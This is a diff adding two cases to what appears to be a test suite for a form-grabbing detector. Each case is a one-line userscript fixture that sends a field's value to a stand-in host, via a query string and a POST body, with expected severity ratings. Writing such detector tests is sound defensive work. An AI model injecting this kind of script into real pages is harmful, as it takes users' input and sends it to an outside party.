@@ -13,6 +13,22 @@ describe("form-grabbing", () => {
 			),
 		],
 		[
+			"a field of its settings that names the server: look at it",
+			["medium 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`document.querySelector("#serverEndpoint").addEventListener("change",e=>fetch("https://c.stranger.test/status?of="+e.target.value))`,
+			),
+		],
+		[
+			"a field of that name in the body, while typing",
+			["high 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`document.querySelector("#serverEndpoint").addEventListener("input",e=>fetch("https://c.stranger.test/",{method:"POST",body:e.target.value}))`,
+			),
+		],
+		[
 			"a field, while typing",
 			["high 5"],
 			userscript(
